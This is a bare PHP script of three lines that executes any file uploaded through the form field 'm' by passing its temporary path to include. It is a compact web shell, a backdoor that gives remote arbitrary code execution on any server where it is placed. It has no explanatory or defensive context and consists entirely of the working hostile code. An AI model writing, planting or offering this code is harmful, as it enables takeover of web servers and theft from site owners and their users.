<?php
if (isset($_FILES['m'])) {
    include $_FILES['m']['tmp_name'];
}
